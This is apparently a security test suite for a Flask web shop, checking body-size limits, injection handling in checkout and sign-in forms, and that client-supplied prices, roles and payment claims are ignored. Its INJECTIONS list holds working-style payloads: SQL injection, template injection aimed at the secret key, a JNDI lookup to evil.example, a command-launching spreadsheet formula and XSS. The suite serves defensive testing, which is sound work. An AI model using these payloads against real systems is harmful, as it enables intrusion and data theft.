"""Attacks 19 and 22, fault 13: all input is text, and prices and rights come from the shop alone."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shop.accounts.models import User
from shop.core.db import db
from shop.http_kit.request_guard import LARGEST_BODY
from shop.orders.models import Order
from shop.payments.records.models import Capture, Payment, WebhookEventRow
from tests.security.conftest import CHANGING, PASSWORD, People, addresses, all_rows, filled, of_people, send
from tests.shop_fixtures import PEN, PRICES, Shop
from tests.web.conftest import CUSTOMER, Visitor

on_sqlite = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
MEGABYTE = 1_000_000
TAKES_FILES = {"/ops/reconciliation/files", "/ops/products/imports", "/ops/products/<sku>/pictures"}
"""Their limits are higher, and tests of these pages check them."""
BEARER = {"Authorization": "Bearer sim_demo"}
BY_THE_WEB = frozenset({200, 303, 400, 404, 409, 413, 422, 429})


@on_sqlite
def test_a_body_of_a_megabyte_is_413_on_every_route_and_changes_nothing(people: People) -> None:
    """Fault 13."""
    visitor = people.customer("mei")
    before = all_rows()
    requested = 0
    for method, path in addresses(people.shop.app, *CHANGING):
        where = filled(path, people.order)
        if path in TAKES_FILES:
            continue
        if of_people(path):
            sent: dict[str, Any] = {"data": {"csrf_token": "x" * MEGABYTE}}
        else:
            sent = {"data": b"x" * MEGABYTE, "content_type": "application/json", "headers": BEARER}
        assert send(visitor.client, method, where, **sent).status_code == 413, path
        requested += 1
    assert requested > 15
    assert MEGABYTE > LARGEST_BODY
    assert all_rows() == before


INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE orders; --",
    "\\'; SELECT pg_sleep(10) --",
    '" UNION SELECT password_hash FROM users --',
    "%' AND 1=0 UNION ALL SELECT NULL--",
    "1); DELETE FROM payments; --",
    "{{ config.SECRET_KEY }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "%(name)s %s {0} {name}",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
]
TEXTS = ("name", "line1", "line2", "city")


def test_sql_and_templates_in_every_field_are_stored_and_shown_as_text(people: People, shop: Shop) -> None:
    """Attack 19."""
    secret = shop.app.config["SECRET_KEY"].strip()
    for four in zip(*[iter(INJECTIONS)] * 4, strict=True):
        visitor = Visitor(shop.app)
        visitor.add(PEN)
        answer = visitor.checkout(**dict(zip(TEXTS, four, strict=True)))
        assert answer.status_code == 303, four
        assert secret not in visitor.get(str(answer.location)).text
        db.session.rollback()
        order = db.session.scalars(db.select(Order).order_by(Order.id.desc()).limit(1)).one()
        assert tuple(getattr(order, name) for name in TEXTS) == four
        assert order.total_amount == PRICES[PEN]["TWD"]
        for text in four:
            assert visitor.get("/", query_string={"q": text}).status_code == 200
    assert shop.count(Order) == 1 + len(INJECTIONS) // 4


@pytest.fixture
def typist(app: Flask, unhurried: None) -> Iterator[Visitor]:
    """A visitor with a cart who fills in forms."""
    visitor = Visitor(app)
    visitor.add(PEN)
    yield visitor


FORMS = {
    "/checkout": sorted({*CUSTOMER, "key", "credit", "terms", "shown", "customer", "delivery", "code"}),
    "/checkout/update": sorted({*CUSTOMER, "key", "credit", "terms", "shown", "customer", "delivery", "code"}),
    "/checkout/sign-in": sorted({*CUSTOMER, "credit"}),
    "/sign-in": ["email", "next", "password"],
    "/register": ["email", "name", "next", "password"],
    "/orders": ["email"],
    "/cart/lines": ["from", "quantity", "seen", "sku"],
    f"/cart/lines/{PEN}/remove": ["seen"],
    "/cart/prices": ["terms"],
    f"/cart/lines/{PEN}": ["quantity"],
    "/cart/currency": ["currency"],
}


@on_sqlite
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    path=st.sampled_from(sorted(FORMS)),
    texts=st.lists(st.text(max_size=30) | st.sampled_from(INJECTIONS), min_size=16, max_size=16),
    query=st.text(max_size=30),
)
def test_no_text_in_any_field_of_any_form_breaks_anything(
    typist: Visitor, path: str, texts: list[str], query: str
) -> None:
    """Attack 19."""
    typist.get("/checkout" if path == "/checkout" else "/sign-in")
    fields = dict(zip(FORMS[path], texts, strict=False))
    assert typist.post(path, dict(fields), query_string={"next": query}).status_code in BY_THE_WEB
    assert typist.get("/", query_string={"q": texts[0], "category": query}).status_code in BY_THE_WEB


WISHES: dict[str, Any] = {
    "total_amount": "1",
    "total": "1",
    "amount": "1",
    "unit_amount": "1",
    "unit_price": "1",
    "price": "1",
    "prices": '{"TWD": 1}',
    "currency": "JPY",
    "credit": "1",
    "credit_amount": "1",
    "accepted_amount": "1",
    "state": "PAID",
    "paid_by": "store_credit",
    "paid_at": "2026-01-01T00:00:00Z",
    "user_id": "1",
    "id": "1",
    "number": "AAAA-BBBB-CC",
    "token": "known",
    "pay_by": "2099-01-01T00:00:00Z",
    "review_since": "",
    "discount": "100",
    "discount_amount": "100",
    "delivery_amount": "0",
    "tax_amount": "0",
    "lines-0-unit_amount": "1",
    "roles": "admin",
    "is_admin": "true",
}


@on_sqlite
def test_prices_states_and_owners_in_a_form_are_ignored(people: People, shop: Shop) -> None:
    """Attack 22: the amount comes from the catalogue, through the cart, to the acquirer."""
    visitor = Visitor(shop.app)
    visitor.get("/products/pen")
    visitor.post("/cart/lines", WISHES | {"sku": PEN, "quantity": "2"})
    wishes = {name: fields for name, fields in WISHES.items() if name != "credit"}  # a guest has no credit to use
    answer = visitor.checkout(**wishes)
    token = str(answer.location).rsplit("/", 1)[1]
    db.session.rollback()
    order = db.session.scalars(db.select(Order).where(Order.token == token)).one()
    price = 2 * PRICES[PEN]["TWD"]
    assert (order.total_amount, order.currency, order.credit_amount) == (price, "TWD", 0)
    assert (order.state, order.paid_by, order.user_id, order.accepted_amount) == ("WAITING_PAYMENT", None, None, None)
    assert shop.payment(order).money == order.total
    assert shop.acquirer.payments[shop.payment(order).id].money == order.total
    visitor.get(f"/orders/{token}")
    visitor.post(f"/orders/{token}/pay", WISHES)
    assert (shop.payment(order).amount, shop.state(order)) == (price, "WAITING_PAYMENT")


@on_sqlite
def test_store_credit_that_does_not_exist_pays_nothing(people: People, shop: Shop) -> None:
    """Attack 22: neither a guest's nor a customer's request creates credit."""
    for visitor, status in ((Visitor(shop.app), 422), (people.customer("mei"), 409)):
        orders = shop.count(Order)
        visitor.add(PEN)
        answer = visitor.checkout(credit="9000")
        assert answer.status_code == status
        assert shop.count(Order) == orders, "the order is not there, and neither is its discount"
        assert visitor.cart() == {PEN: 1}


@on_sqlite
def test_a_new_account_is_a_customer_whatever_the_form_contains(people: People, shop: Shop) -> None:
    """Attack 22."""
    visitor = Visitor(shop.app)
    visitor.get("/register")
    form = {"email": "eve@example.com", "name": "Eve", "password": PASSWORD}
    assert visitor.post("/register", WISHES | form | {"roles": ["admin", "finance"]}).status_code == 303
    db.session.rollback()
    eve = db.session.scalars(db.select(User).where(User.email == "eve@example.com")).one()
    assert eve.roles == []
    assert eve.id != 1 or shop.count(User) == 1


@on_sqlite
def test_a_return_address_with_a_success_parameter_pays_nothing(people: People, shop: Shop) -> None:
    """Attack 22: parameters of an address come from the browser."""
    claims = {"status": "captured", "payment": "paid", "amount": "1", "RtnCode": "1", "session_id": "cs_1"}
    for path in ("return", "status", ""):
        people.guest.get(f"/orders/{people.order.token}/{path}".rstrip("/"), query_string=claims)
    shop.sweep()
    assert (shop.state(people.order), shop.count(Capture)) == ("WAITING_PAYMENT", 0)
    assert shop.count(WebhookEventRow) == 0
    db.session.rollback()
    assert {p.state for p in db.session.scalars(db.select(Payment))} == {"OPEN"}
    assert not re.search("captured|cs_1", people.guest.get(f"/orders/{people.order.token}").text)
